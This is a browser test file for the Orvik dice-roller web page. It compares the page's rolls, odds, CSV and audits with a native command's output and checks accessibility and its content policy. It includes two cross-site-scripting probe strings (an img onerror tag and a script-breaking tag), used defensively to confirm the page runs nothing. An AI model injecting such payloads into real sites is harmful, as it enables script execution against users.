// The page in Debian's Chromium, headless, against the native command's answers.
//   ORVIK_WEB_DIR=build-web/web ORVIK_CLI=build/orvik node --test page_test.mjs
// ORVIK_WEB_DIR is the built static folder (index.html and what it loads), ORVIK_CLI the native
// command whose answers the page must give; ORVIK_PAGE_SHOTS, where the screenshots go (default:
// page-screenshots beside ORVIK_WEB_DIR); CHROMIUM, the browser (default /usr/bin/chromium).
// Nothing is downloaded: playwright-core drives the Chromium installed on the machine.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createRequire } from 'node:module';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { chromium } from 'playwright-core';
import { draws, nearNumber } from '../../test/support.mjs';
import { treeMegabytes } from './memory.mjs';

const webDir = path.resolve(need('ORVIK_WEB_DIR'));
const cli = path.resolve(need('ORVIK_CLI'));
const shots = path.resolve(process.env.ORVIK_PAGE_SHOTS || path.join(webDir, '..', 'page-screenshots'));
const source = path.resolve(path.dirname(new URL(import.meta.url).pathname), '..', '..', '..');
const axeSource = fs.readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
const gameLog = fs.readFileSync(path.join(source, 'examples', 'game.log'), 'utf8');
const fileUrl = pathToFileURL(path.join(webDir, 'index.html')).href;
const hostile = ['<img src=x onerror=alert(1)>', '</script><script>alert(1)</script>'];

function need(name) {
  if (!process.env[name]) throw new Error(`${name} is not set (see the top of this file)`);
  return process.env[name];
}

// The native command's output lines, and its standard error.
function native(args, input) {
  const run = spawnSync(cli, args, { input: input ?? '', encoding: 'utf8', maxBuffer: 1 << 30 });
  if (run.error) throw run.error;
  return { lines: run.stdout.split('\n').filter((line) => line !== ''), stderr: run.stderr };
}
const nativeJson = (args, input) => native(args, input).lines.map((line) => JSON.parse(line));
// The audits of examples/game.log, every line trusted: a card each.
const gameLogAudits = () => native(['--audit', '--answers', '--json'], gameLog).lines.length;
// The verdict on audits together that ends the command's report for people (args without
// --json): its last paragraph, or null where one audit has none.
function nativeHeadline(args, input) {
  const run = spawnSync(cli, args, { input: input ?? '', encoding: 'utf8', maxBuffer: 1 << 30 });
  const last = run.stdout.trimEnd().split('\n\n').at(-1);
  return /^(\d+ audits|the whole log)/.test(last) ? last : null;
}

let browser;
let server;
let httpUrl;

before(async () => {
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM || '/usr/bin/chromium',
    args: ['--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking',
      '--disable-component-update', '--disable-sync'],
  });
  // A static server of the folder alone, as the page is served in doc/PAGE.md.
  const types = { '.html': 'text/html', '.js': 'text/javascript', '.css': 'text/css', '.svg': 'image/svg+xml' };
  server = http.createServer((request, response) => {
    const name = decodeURIComponent(new URL(request.url, 'http://127.0.0.1/').pathname);
    const file = path.join(webDir, name === '/' ? 'index.html' : name);
    if (!file.startsWith(webDir + path.sep) || !fs.existsSync(file) || !fs.statSync(file).isFile()) {
      response.writeHead(404).end();
      return;
    }
    response.writeHead(200, { 'content-type': types[path.extname(file)] || 'application/octet-stream' });
    fs.createReadStream(file).pipe(response);
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  httpUrl = `http://127.0.0.1:${server.address().port}/index.html`;
  fs.mkdirSync(shots, { recursive: true });
});

after(async () => {
  await browser?.close();
  server?.close();
});

// A page of its own context, with every request outside the page's folder blocked, and a record
// of what must never happen: a dialog, a console error (a Content-Security-Policy refusal is
// one), an uncaught error, a request blocked.
async function open(url, { width = 1280, height = 800, colorScheme = 'light', init = null } = {}) {
  const context = await browser.newContext({ viewport: { width, height }, colorScheme, acceptDownloads: true });
  const folder = url.startsWith('file:') ? pathToFileURL(webDir + path.sep).href : new URL('./', url).href;
  const trouble = [];
  await context.route('**/*', (route) => {
    const requested = route.request().url();
    if (requested.startsWith(folder)) return route.continue();
    trouble.push(`request outside the folder: ${requested}`);
    return route.abort();
  });
  const page = await context.newPage();
  page.on('dialog', (dialog) => {
    trouble.push(`dialog: ${dialog.message()}`);
    dialog.dismiss().catch(() => {});
  });
  const heard = (where) => (message) => {
    if (message.type() === 'error' || message.type() === 'warning') trouble.push(`${where} ${message.type()}: ${message.text()}`);
  };
  page.on('console', heard('console'));
  page.on('worker', (worker) => worker.on('console', heard('worker console')));
  page.on('pageerror', (error) => trouble.push(`page error: ${error.message}`));
  page.on('requestfailed', (request) => trouble.push(`request failed: ${request.url()}`));
  if (init) await page.addInitScript(init);
  await page.goto(url, { waitUntil: init ? 'commit' : 'load' });
  if (!init) await page.waitForFunction(() => /^\d+$/.test(document.getElementById('seed-in-use').textContent));
  page.trouble = trouble;
  page.done = async () => {
    await context.close();
    assert.deepEqual(trouble, [], 'nothing went wrong in the page');
  };
  return page;
}

const historyCount = (page) => page.locator('#history li.roll').count();

async function roll(page, text) {
  await page.click('#tab-roll');
  const before = await historyCount(page);
  await page.fill('#roll-text', text);
  await page.press('#roll-text', 'Enter');
  await page.waitForFunction((n) => document.querySelectorAll('#history li.roll').length > n, before);
}

async function setSeed(page, seed) {
  await page.click('#tab-roll');
  await page.fill('#seed', String(seed));
  await page.press('#seed', 'Enter');
  await page.waitForFunction((s) => document.getElementById('seed-in-use').textContent === s, String(seed));
}

// The history's rolls, oldest first: each answer, with its dice read back as numbers.
async function rollsShown(page) {
  const entries = await page.$$eval('#history li.roll', (items) => items.map((li) => ({
    answer: li.querySelector('.answer').textContent,
    dice: [...li.querySelectorAll('.dice')].map((p) => p.textContent),
  })));
  const numbers = (line) => [...line.matchAll(/\[([^\]]*)\]/g)].map((m) => m[1].split(' ').map(Number));
  return entries.reverse().map(({ answer, dice }) => ({
    answer,
    sneak: dice.filter((d) => d.startsWith('sneak attack dice: ')).map(numbers).flat(),
    groups: dice.filter((d) => d.startsWith('dice: ')).map(numbers).flat(),
  }));
}

async function showOdds(page, texts, { sneak = false, atLeast, vs } = {}) {
  await page.click('#tab-odds');
  await page.fill('#odds-texts', texts.join('\n'));
  await page.setChecked('#odds-sneak', sneak);
  await page.check(`input[name="question"][value="${atLeast !== undefined ? 'atleast' : vs !== undefined ? 'vs' : 'none'}"]`);
  if (atLeast !== undefined) await page.fill('#odds-target', String(atLeast));
  if (vs !== undefined) await page.fill('#odds-vs', vs);
  await page.evaluate(() => { document.getElementById('odds-status').textContent = ''; });
  await page.click('#odds-button');
  await page.waitForFunction(() => /^Odds of/.test(document.getElementById('odds-status').textContent), null, { timeout: 60000 });
}

async function audit(page, click) {
  await page.evaluate(() => { document.getElementById('audit-status').textContent = ''; });
  await click();
  await page.waitForFunction(() => {
    const status = document.getElementById('audit-status').textContent;
    return status !== '' && !status.startsWith('Auditing') && document.getElementById('audit-work').hidden;
  }, null, { timeout: 120000 });
}

// No WCAG 2.1 AA violation that axe-core (loaded into the page) finds.
async function checkWcag(page, what) {
  const result = await page.evaluate(() => window.axe.run(document, {
    runOnly: { type: 'tag', values: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa'] },
    // axe would fetch the style sheets again, which the page's policy forbids.
    preload: false,
  }));
  const found = result.violations.map((v) => `${v.id}: ${v.help} (${v.nodes.map((n) => n.target.join(' ')).join(', ')})`);
  assert.deepEqual(found, [], `${what}: WCAG 2.1 AA`);
  assert.ok(result.passes.length > 10, `${what}: axe checked ${result.passes.length} rules`);
}

// A card drawn: cards past the first few are drawn as they come into view.
async function reveal(card) {
  await card.scrollIntoViewIfNeeded();
  await card.evaluate((node) => new Promise((resolve) => {
    const check = () => (node.classList.contains('waiting') ? requestAnimationFrame(check) : resolve());
    check();
  }));
}

// The figures of a card's list, by name, as shown in full ("Show every figure in full").
const cardFigures = (card) => card.$$eval('dl div', (items) => Object.fromEntries(items.map((item) =>
  [item.querySelector('dt').textContent, item.querySelector('dd').textContent])));
const tableRows = (card) => card.$$eval('table tbody tr', (rows) => rows.map((row) =>
  [...row.children].map((cell) => cell.textContent)));
// A figure shown in full reads back as the very double the command wrote.
const full = (value) => (value === null ? 'none' : String(value));

// A p-value or chance shown in full is the core's double: where the core's maths library
// (emscripten's musl) rounds a last bit otherwise than glibc's, the command's can differ from it in
// its last figures (nearNumber).
function sameFigure(got, want, what) {
  assert.ok(typeof got === 'string' && nearNumber(full(want), got), `${what}: ${got}, where the command has ${full(want)}`);
}

// Roll texts: the grammar's every part, the limits and past them, free text of any kind.
function rollTexts(count, seed) {
  const next = draws(seed);
  const { pick, int } = next;
  const free = ['', ' to hit', ' stealth  check', ' é ✓ 😀', ` ${hostile[0]}`, ` ${hostile[1]}`, ' "quoted" \\ back', ' x'.repeat(int(1, 60))];
  const texts = ['d20', '3#2d6+1', '2d6+3*2', 'd6x', '', ' d6', 'd6 ', '31#d6', '101d6', 'd501', 'd0', '30#100d500',
    '2d6+3-1', 'd20+1000', 'd20+1001', '4d6*10', '4d6*11', '3#d20+5 goblins', `30#d20 ${'x'.repeat(380)}`];
  while (texts.length < count) {
    let text = '';
    if (next() < 0.3) text += `${int(1, next() < 0.9 ? 30 : 32)}#`;
    if (next() < 0.7) text += String(int(1, next() < 0.9 ? 100 : 120));
    text += `d${int(1, next() < 0.95 ? 500 : 600)}`;
    while (next() < 0.3) text += `${pick(['+', '-'])}${int(1, 400)}`;
    if (next() < 0.15) text += `*${int(1, 11)}`;
    if (next() < 0.05) text = pick(['x', '#', '-']) + text;
    texts.push(text + (next() < 0.4 ? pick(free) : ''));
  }
  return texts;
}

function sneakTexts(count, seed) {
  const main = rollTexts(count * 2, seed);
  return main.slice(0, count).map((text, i) => {
    const sneak = main[count + i].split(' ')[0].replace(/^\d+#/, '');
    return i % 7 === 0 ? text : `${sneak} ${text}`;
  });
}

describe('the page', { concurrency: false }, () => {
  test('rolls typed into the page give the native command\'s answers and faces', async () => {
    const page = await open(fileUrl);
    const batches = [
      { seed: 1, sneak: false, texts: rollTexts(160, 11) },
      { seed: 4294967295, sneak: false, texts: rollTexts(80, 12) },
      { seed: 77, sneak: true, texts: sneakTexts(80, 13) },
    ];
    let compared = 0;
    for (const { seed, sneak, texts } of batches) {
      await page.click('#clear-history');
      await page.setChecked('#roll-sneak', sneak);
      await setSeed(page, seed);
      // Typed one after another on the Roll view, each waited for by the history's length. An
      // empty text is no roll: the field says so, and the history has no entry of it.
      let entries = 0;
      for (const text of texts) {
        await page.fill('#roll-text', text);
        await page.press('#roll-text', 'Enter');
        if (text.trim() === '') {
          await page.waitForFunction(() => !document.getElementById('roll-text-error').hidden);
          assert.equal(await historyCount(page), entries, 'no history entry for an empty roll');
          continue;
        }
        await page.waitForFunction((n) => document.querySelectorAll('#history li.roll').length > n, entries++);
      }
      const rolled = texts.filter((text) => text.trim() !== '');
      const wanted = nativeJson(['--seed', String(seed), '--json', ...(sneak ? ['--sneak'] : []), '--', ...rolled]);
      const got = await rollsShown(page);
      assert.equal(got.length, rolled.length);
      got.forEach((shown, i) => {
        const want = wanted[i];
        assert.equal(shown.answer, want.answer, `the answer to ${JSON.stringify(rolled[i])}`);
        assert.deepEqual(shown.groups, want.groups.map((g) => g.faces), `the dice of ${JSON.stringify(rolled[i])}`);
        assert.deepEqual(shown.sneak, want.sneak ? [want.sneak.faces] : [], `the sneak dice of ${JSON.stringify(rolled[i])}`);
        compared++;
      });
    }
    assert.equal(compared, 318, 'the 320 texts, less the two empty ones');
    await page.done();
  });

  test('the odds table and the CSV carry orvik --odds --json\'s figures', async () => {
    const page = await open(httpUrl);
    await page.check('#exact');
    const runs = [
      { texts: ['3d6', '3#d20+5', '2d6+3*2', '100d500', `30#d20 ${'x'.repeat(380)}`, 'd6x'] },
      { texts: ['3d6 2#d8+2', `d20-15 10#d20-10 ${'y'.repeat(400)}`], sneak: true },
    ];
    for (const { texts, sneak } of runs) {
      const wanted = nativeJson(['--odds', '--json', ...(sneak ? ['--sneak'] : []), '--', ...texts]);
      await showOdds(page, texts, { sneak });
      const cards = await page.$$('#odds-tables section.card');
      assert.equal(cards.length, texts.length);
      for (const [i, want] of wanted.entries()) {
        const name = JSON.stringify(texts[i]).slice(0, 40);
        await reveal(cards[i]);
        assert.equal(await cards[i].$eval('h3', (e) => e.textContent), texts[i]);
        if (want.error) {
          assert.equal(await cards[i].$eval('.error', (e) => e.textContent), want.error, name);
          continue;
        }
        const figs = await cardFigures(cards[i]);
        assert.deepEqual([figs.minimum, figs.maximum, figs.mean, figs['standard deviation']],
          [want.min, want.max, want.mean, want.standard_deviation].map(full), name);
        // A dice error's chance is shown only where an answer can be refused.
        assert.equal(figs['chance of a dice error'], want.p_error === 0 ? undefined : full(want.p_error), name);
        // The rows shown (a long table a page at a time), and the next page of a long one.
        const check = async () => {
          const rows = await tableRows(cards[i]);
          assert.ok(rows.length > 0);
          for (const [total, p, atLeast, atMost] of rows) {
            const row = want.totals[Number(total) - want.min];
            assert.deepEqual([p, atLeast, atMost], [row.p, row.at_least, row.at_most].map(full), `${name} total ${total}`);
          }
          return rows[0][0];
        };
        const first = await check();
        const next = await cards[i].$('button:has-text("Next rows")');
        if (next) {
          await next.click();
          assert.notEqual(await check(), first);
        }
      }
      const [download] = await Promise.all([page.waitForEvent('download'), page.click('#odds-csv')]);
      const csv = fs.readFileSync(await download.path(), 'utf8').trimEnd().split('\r\n');
      assert.equal(csv[0], 'text,total,p,at_least,at_most');
      const rows = wanted.filter((w) => !w.error).flatMap((w) => w.totals.map((t) => [w.text, t]));
      assert.equal(csv.length - 1, rows.length);
      rows.forEach(([text, t], k) => {
        const cells = csv[k + 1].match(/^"((?:[^"]|"")*)",(.*)$/);
        assert.equal(cells[1].replace(/""/g, '"'), text);
        assert.deepEqual(cells[2].split(',').map(Number), [t.total, t.p, t.at_least, t.at_most], `CSV row ${k + 1}`);
      });
    }
    // Each view of the chart draws every text.
    for (const mode of ['at_least', 'at_most', 'p']) {
      await page.check(`input[name="mode"][value="${mode}"]`);
      assert.equal(await page.locator('#odds-chart svg path.line, #odds-chart svg path.bar').count(), 2, mode);
    }
    // The questions: reaching a target, k of the groups, and one roll against another.
    const texts = ['3#d20+5', 'd20', '2#d6 d4', 'd6x'];
    for (const [option, value] of [['--at-least', '15'], ['--vs', 'd20'], ['--vs', 'd6x'], ['--at-least', '-9223372036854775808']]) {
      const wanted = nativeJson(['--odds', '--json', option, value, '--', ...texts]);
      await showOdds(page, texts, option === '--vs' ? { vs: value } : { atLeast: value });
      const cards = await page.$$('#odds-answers section.card');
      assert.equal(cards.length, wanted.length);
      for (const [i, want] of wanted.entries()) {
        await reveal(cards[i]);
        if (want.error) {
          assert.match(await cards[i].$eval('.error', (e) => e.textContent), new RegExp(`^${want.error}`));
          continue;
        }
        const figs = await cardFigures(cards[i]);
        if (option === '--vs') {
          assert.deepEqual([figs.greater, figs.equal, figs.less, figs['either a dice error']],
            [full(want.greater), full(want.equal), full(want.less), want.p_error === 0 ? undefined : full(want.p_error)]);
        } else {
          assert.deepEqual([figs['one total reaches it'], figs['chance of a dice error']],
            [full(want.at_least), want.p_error === 0 ? undefined : full(want.p_error)]);
          const rows = want.groups > 1 ? await tableRows(cards[i]) : [];
          assert.deepEqual(rows, want.groups > 1 ? want.exactly.map((p, k) => [String(k), full(p), full(want.or_more[k])]) : []);
        }
      }
    }
    await page.done();
  });

  test('the audit of examples/game.log pasted into the page shows orvik --audit --answers\'s figures', async () => {
    const page = await open(fileUrl);
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write']).catch(() => {});
    await page.check('#exact');
    await page.click('#tab-audit');
    for (const [from, byRoller, ideal] of [['<Orvik>', false, false], ['', true, true]]) {
      const args = ['--audit', '--answers', ...(from ? ['--from', from] : []), ...(byRoller ? ['--by-roller'] : []), ...(ideal ? ['--ideal-dice'] : [])];
      const { lines, stderr } = native([...args, '--json'], gameLog);
      const wanted = lines.map((line) => JSON.parse(line));
      assert.ok(wanted.every((a) => a.error !== undefined || a.dice === (ideal ? 'ideal' : 'orvik')));
      await page.fill('#audit-log', '');
      await page.focus('#audit-log');
      await page.evaluate((text) => navigator.clipboard.writeText(text), gameLog);
      await page.keyboard.press('Control+V');
      assert.equal(await page.inputValue('#audit-log'), gameLog, 'the log, pasted');
      await page.fill('#audit-from', from);
      await page.setChecked('#audit-by-roller', byRoller);
      await page.setChecked('#audit-ideal', ideal);
      await audit(page, () => page.click('#audit-button'));
      assert.equal(await page.textContent('#audit-results .summary'),
        stderr.trim().replace(/^orvik: standard input/, 'the pasted log'));
      await compareAudits(page, wanted, { log: true, headline: nativeHeadline(args, gameLog) });
    }
    await page.uncheck('#audit-ideal');
    // The same log as a file in UTF-16, by its byte-order mark.
    const file = path.join(os.tmpdir(), `orvik-page-${process.pid}.log`);
    fs.writeFileSync(file, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(gameLog, 'utf16le')]));
    try {
      const wanted = nativeJson(['--audit', '--answers', '--json', file]);
      await page.uncheck('#audit-by-roller');
      await audit(page, () => page.setInputFiles('#audit-file', file));
      assert.match(await page.textContent('#audit-results .summary'), /^orvik-page-\d+\.log: 319 lines, 146 answers of 5 roll texts/);
      await compareAudits(page, wanted, { log: true, headline: nativeHeadline(['--audit', '--answers', file]) });
    } finally {
      fs.rmSync(file, { force: true });
    }
    // Rolls of the page's own generator, as orvik --audit --seed rolls them, given together, and
    // against ideal dice where the page is told so.
    for (const [ideal, seed] of [[false, 5], [true, 7]]) {
      await setSeed(page, seed);
      await page.click('#tab-audit');
      await page.check('input[name="audit-source"][value="rolls"]');
      await page.setChecked('#audit-ideal', ideal);
      await page.fill('#audit-texts', '3d6\n2d6+3*2\nd6x\nd500');
      await page.fill('#audit-rolls', '3000');
      await audit(page, () => page.click('#audit-button'));
      const args = ['--audit', '--seed', String(seed), '--rolls', '3000', ...(ideal ? ['--ideal-dice'] : []), '3d6', '2d6+3*2', 'd6x', 'd500'];
      const wanted = nativeJson([...args, '--json']);
      // Ideal dice: a d500 averages 250.5, where Orvik's lean gives 249.55.
      assert.equal(wanted[3].mean.expected.toFixed(2), ideal ? '250.50' : '249.55');
      await compareAudits(page, wanted, { log: false, headline: nativeHeadline(args) });
    }
    // The library's words for the figures, where they are not shown in full: p-values as the
    // verdicts print them, chances as the reports say them.
    await page.uncheck('#exact');
    const first = (await page.$$('#audit-results section.card'))[0];
    const figs = await cardFigures(first);
    const verdict = await first.$eval('.verdict', (e) => e.textContent);
    assert.ok(verdict.includes(`(p = ${figs['adjusted for the 3 audits']} adjusted for the 3 audits; ${figs['p-value']} alone)`), `${verdict} | ${figs['p-value']}`);
    assert.match(figs['chance to call Orvik\'s dice unlikely'], /^(\d+%|under 1%|over 99%)$/);
    assert.match(await first.$eval('ul.caught li', (e) => e.textContent),
      /^3,000 totals like these would catch one d6 of 3d6 showing 6 half again as often (\d+%|under 1%|over 99%) of the time; about [\d,]+ would catch it 90% of the time\.$/);
    await page.done();
  });

  // wanted: the command's JSON objects; log, whether they are a log's audits; headline, the
  // command's verdict on them all.
  async function compareAudits(page, wanted, { log, headline }) {
    const together = await page.$$eval('#audit-results .together p', (ps) => ps.map((p) => p.textContent).join('\n'));
    assert.equal(together || null, headline);
    const cards = await page.$$('#audit-results section.card');
    assert.equal(cards.length, wanted.length);
    for (const [i, want] of wanted.entries()) {
      await reveal(cards[i]);
      assert.equal(await cards[i].$eval('h3 code', (e) => e.textContent), want.text);
      if (want.error) {
        assert.equal(await cards[i].$eval('.error', (e) => e.textContent), want.error);
        continue;
      }
      assert.equal(await cards[i].$eval('.verdict', (e) => e.textContent), want.verdict);
      const figs = await cardFigures(cards[i]);
      assert.deepEqual([figs.rolls, figs['totals tested'], figs['refused answers'], figs['answers no roll gives']],
        [want.rolls, want.totals, want.refused, want.impossible].map(full), want.text);
      assert.equal(figs['chance of a dice error'], want.p_error === 0 ? undefined : full(want.p_error));
      // A test the sample is too small for says how many totals it takes, not rows of "none".
      const notes = await cards[i].$$eval('p.note', (items) => items.map((p) => p.textContent));
      if (want.mean.z === null) {
        assert.ok(notes.some((n) => /^The mean is tested from 30 totals that can differ on; here there (is|are) [\d,]+\.$/.test(n)), notes.join('|'));
        assert.equal(figs.observed, undefined);
      } else {
        assert.deepEqual([figs.observed, figs.expected, figs['standard error'], figs['z (standard errors off)']],
          [want.mean.observed, want.mean.expected, want.mean.standard_error, want.mean.z].map(full), want.text);
      }
      if (want.chi_square.statistic === null) {
        assert.ok(notes.some((n) => /^The spread is tested once at least two classes of totals each expect 5;/.test(n)), notes.join('|'));
      } else {
        assert.deepEqual([figs.statistic, figs['degrees of freedom'], figs.classes],
          [want.chi_square.statistic, want.chi_square.degrees_of_freedom, want.chi_square.classes.length].map(full), want.text);
      }
      const ps = await cards[i].$$eval('dl div', (items) => items.filter((d) => d.querySelector('dt').textContent === 'p')
        .map((d) => d.querySelector('dd').textContent));
      const wantPs = [want.mean.z === null ? null : want.mean.p, want.chi_square.statistic === null ? null : want.chi_square.p]
        .filter((p) => p !== null);
      assert.equal(ps.length, wantPs.length, want.text);
      wantPs.forEach((p, k) => sameFigure(ps[k], p, `${want.text}: p of test ${k + 1}`));
      // The verdict's figures, what the sample could catch and, for a log, the anytime figure.
      const dice = { orvik: 'Orvik\'s dice: each face as likely as Orvik\'s generator makes it.', ideal: 'ideal dice: every face equally likely.' };
      assert.equal(await cards[i].$eval('p.tested', (e) => e.textContent), `Tested against ${dice[want.dice]}`);
      sameFigure(figs['p-value'], want.p, `${want.text}: p-value`);
      if (want.audits > 1) sameFigure(figs[`adjusted for the ${want.audits} audits`], want.p_adjusted, `${want.text}: adjusted p`);
      else assert.equal(figs['adjusted for the 1 audits'], undefined);
      const other = want.other_dice && `chance to call ${want.other_dice.dice === 'ideal' ? 'ideal dice' : 'Orvik\'s dice'} unlikely`;
      if (other) sameFigure(figs[other], want.other_dice.chance, `${want.text}: ${other}`);
      assert.equal(figs['p worked out'] !== undefined, want.mean.z !== null || want.chi_square.statistic !== null);
      if (want.chi_square.simulated) sameFigure(figs['the chi-square\'s tail'], want.chi_square.tail_p, `${want.text}: the chi-square's tail`);
      const caught = await cards[i].$$eval('ul.caught li', (items) => items.map((li) => li.textContent));
      assert.equal(caught.length, want.caught.length, want.text);
      want.caught.forEach((c, k) => assert.ok(caught[k].includes(` would catch ${c.words} ${full(c.chance)} of the time; `), caught[k]));
      if (log) sameFigure(figs['e-value'], want.anytime.e_value, `${want.text}: e-value`);
      else assert.equal(figs['e-value'], undefined);
      if (log) assert.equal(figs.flagged, want.anytime.flagged ? 'yes' : 'no');
      // A table of more than 200 classes is shown 100 rows at a time, from its first.
      const rows = await tableRows(cards[i]);
      const classes = want.chi_square.classes.slice(0, want.chi_square.classes.length > 200 ? 100 : undefined);
      assert.deepEqual(rows.map((r) => r.slice(1)), classes.map((c) => [full(c.observed), full(c.expected)]));
      assert.equal(await cards[i].$$eval('svg.plot path', (paths) => paths.length), 2);
    }
  }

  test('a share link restores the page', async () => {
    const page = await open(fileUrl);
    await page.fill('#roll-text', `3#d20+5 ${hostile[0]}`);
    await page.check('#roll-sneak');
    await page.uncheck('#roll-sneak');
    await setSeed(page, 424242);
    await page.click('#tab-audit');
    await page.fill('#audit-from', '<Orvik>');
    await page.check('input[name="audit-source"][value="rolls"]');
    await page.fill('#audit-texts', '8d6');
    await showOdds(page, ['3d6', `2d6 ${hostile[1]}`], { atLeast: 9 });
    await page.check('input[name="mode"][value="at_most"]');
    // The link is written a moment after the last change.
    await page.waitForFunction(() => document.getElementById('share-link').value.includes('mode=at_most'));
    const link = await page.inputValue('#share-link');
    assert.ok(link.startsWith(`${fileUrl}#`));
    const caption = await page.textContent('#odds-caption');
    const answers = await page.textContent('#odds-answers');
    await roll(page, '3#d20+5');
    const rolled = (await rollsShown(page)).at(-1).answer;
    await page.done();

    const again = await open(link);
    await again.waitForFunction(() => /^Odds of/.test(document.getElementById('odds-status').textContent));
    assert.equal(await again.getAttribute('#tab-odds', 'aria-selected'), 'true');
    assert.equal(await again.inputValue('#odds-texts'), `3d6\n2d6 ${hostile[1]}`);
    assert.equal(await again.inputValue('#roll-text'), `3#d20+5 ${hostile[0]}`);
    assert.equal(await again.inputValue('#odds-target'), '9');
    assert.equal(await again.inputValue('#audit-from'), '<Orvik>');
    assert.equal(await again.inputValue('#audit-texts'), '8d6');
    assert.equal(await again.isChecked('input[name="audit-source"][value="rolls"]'), true);
    assert.equal(await again.isChecked('input[name="mode"][value="at_most"]'), true);
    assert.equal(await again.isChecked('input[name="question"][value="atleast"]'), true);
    assert.equal(await again.textContent('#seed-in-use'), '424242');
    assert.equal(await again.textContent('#odds-caption'), caption);
    assert.equal(await again.textContent('#odds-answers'), answers);
    await roll(again, '3#d20+5');
    assert.equal((await rollsShown(again)).at(-1).answer, rolled, 'the same seed rolls the same');
    await again.done();

    // A link's seed is read as --seed reads it: 0016 is 16, and 0x10, which --seed refuses, is
    // not 16 but a fresh seed.
    for (const [written, taken] of [['0016', '16'], ['0x10', null], ['1e3', null]]) {
      const linked = await open(`${fileUrl}#view=roll&seed=${written}`);
      await linked.waitForFunction(() => document.querySelectorAll('#history li.seed-entry').length > 0);
      const inUse = await linked.textContent('#seed-in-use');
      if (taken === null) assert.ok(inUse !== '16' && inUse !== '1000', `${written}: ${inUse}`);
      else assert.equal(inUse, taken);
      await linked.done();
    }
  });

  test('from disk and from a server, with every request outside the folder blocked, it rolls, answers odds and audits', async () => {
    for (const url of [fileUrl, httpUrl]) {
      const page = await open(url);
      await setSeed(page, 1);
      await roll(page, 'd20');
      assert.equal((await rollsShown(page))[0].answer, 'rolls a d20 and gets 7.');
      await showOdds(page, ['2d6']);
      await page.click('#tab-audit');
      await page.fill('#audit-log', gameLog);
      await audit(page, () => page.click('#audit-button'));
      assert.equal(await page.locator('#audit-results section.card').count(), gameLogAudits());
      // The policy forbids what the page never does: an inline script, a fetch elsewhere.
      const refused = await page.evaluate(async () => {
        const s = document.createElement('script');
        s.textContent = 'window.inlineRan = true';
        document.body.append(s);
        // A name under .invalid never resolves; the policy must refuse the request before that.
        let fetched = true;
        try { await fetch('https://example.invalid/'); } catch { fetched = false; }
        return { inline: window.inlineRan === true, fetched };
      });
      assert.deepEqual(refused, { inline: false, fetched: false });
      assert.ok(page.trouble.some((t) => /Content Security Policy/.test(t)), 'the policy said no');
      page.trouble.length = 0;
      await page.done();
    }
  });

  test('hostile texts typed, pasted, in a log and in a link run nothing', async () => {
    const texts = [...hostile, `d20 ${hostile[0]}`, `3d6 ${hostile[1]}`];
    const link = `${fileUrl}#view=odds&roll=${encodeURIComponent(hostile[0])}&odds=${encodeURIComponent(texts.join('\n'))}` +
      `&vs=${encodeURIComponent(hostile[1])}&q=vs&from=${encodeURIComponent(hostile[0])}&seed=${encodeURIComponent(hostile[1])}`;
    const page = await open(link);
    await page.waitForFunction(() => /^Odds of/.test(document.getElementById('odds-status').textContent));
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write']).catch(() => {});
    for (const text of texts) await roll(page, text);
    await page.fill('#roll-text', '');
    await page.focus('#roll-text');
    await page.evaluate((t) => navigator.clipboard.writeText(t), `d6 ${hostile[1]}`);
    await page.keyboard.press('Control+V');
    await page.press('#roll-text', 'Enter');
    await page.waitForFunction(() => document.querySelectorAll('#history li.roll').length === 5);
    await showOdds(page, texts, { vs: hostile[0] });
    const log = [gameLog, ...texts.map((t, i) => `[20:0${i}] <Orvik> ${t} rolls ${t} and gets 5.`),
      `<Orvik> Ana rolls d20 ${hostile[0]} and gets 25.`].join('\n');
    await page.click('#tab-audit');
    await page.fill('#audit-log', log);
    await page.fill('#audit-from', hostile[1]);
    await audit(page, () => page.click('#audit-button'));
    await page.fill('#audit-from', '');
    await page.check('#audit-by-roller');
    await audit(page, () => page.click('#audit-button'));
    await page.click('#tab-roll');
    await page.fill('#seed', hostile[0]);
    await page.press('#seed', 'Enter');
    await page.waitForFunction(() => /^Write the seed in digits alone/.test(document.getElementById('seed-error').textContent));
    const seen = await page.evaluate(() => ({
      images: document.images.length,
      scripts: document.scripts.length,
      text: document.body.textContent,
    }));
    assert.equal(seen.images, 0, 'no image was made of a text');
    assert.equal(seen.scripts, 2, 'no script was made of a text');
    for (const text of hostile) assert.ok(seen.text.includes(text), `${text} shown as text`);
    await page.done();
  });

  test('while a long audit runs, a click on the page is answered', async () => {
    const page = await open(fileUrl);
    await page.click('#tab-audit');
    await page.check('input[name="audit-source"][value="rolls"]');
    await page.fill('#audit-texts', '30#100d500');
    // Ten million rolls, seconds even where a million take one: it is cancelled once clicked.
    await page.fill('#audit-rolls', '10000000');
    await page.evaluate(() => {
      window.clickLags = [];
      document.addEventListener('click', (event) => window.clickLags.push(performance.now() - event.timeStamp), true);
    });
    await page.click('#audit-button');
    await page.waitForFunction(() => document.getElementById('audit-progress').value > 0);
    await page.evaluate(() => { window.clickLags = []; });
    const answered = [];
    for (let i = 0; i < 5; i++) {
      const before = await page.isChecked('#exact');
      const start = Date.now();
      await page.mouse.click(...await page.locator('#exact').boundingBox().then((b) => [b.x + b.width / 2, b.y + b.height / 2]));
      await page.waitForFunction((was) => document.getElementById('exact').checked !== was, before, { polling: 'raf' });
      answered.push(Date.now() - start);
    }
    const lags = await page.evaluate(() => window.clickLags);
    assert.equal(await page.isHidden('#audit-work'), false, 'the audit was still running');
    assert.equal(lags.length, 5);
    // The page's thread is free while the worker rolls: a blocked one would hold a click for the
    // seconds the audit takes. How soon a click is answered is measured (measure.mjs), not timed here.
    for (const lag of lags) assert.ok(lag < 1000, `a click waited ${lag.toFixed(1)} ms (all: ${lags.map((l) => l.toFixed(1))})`);
    console.log(`# clicks during the audit: handled ${lags.map((l) => l.toFixed(1)).join(', ')} ms after they came; ` +
      `${answered.join(', ')} ms from the test's click to the change seen`);
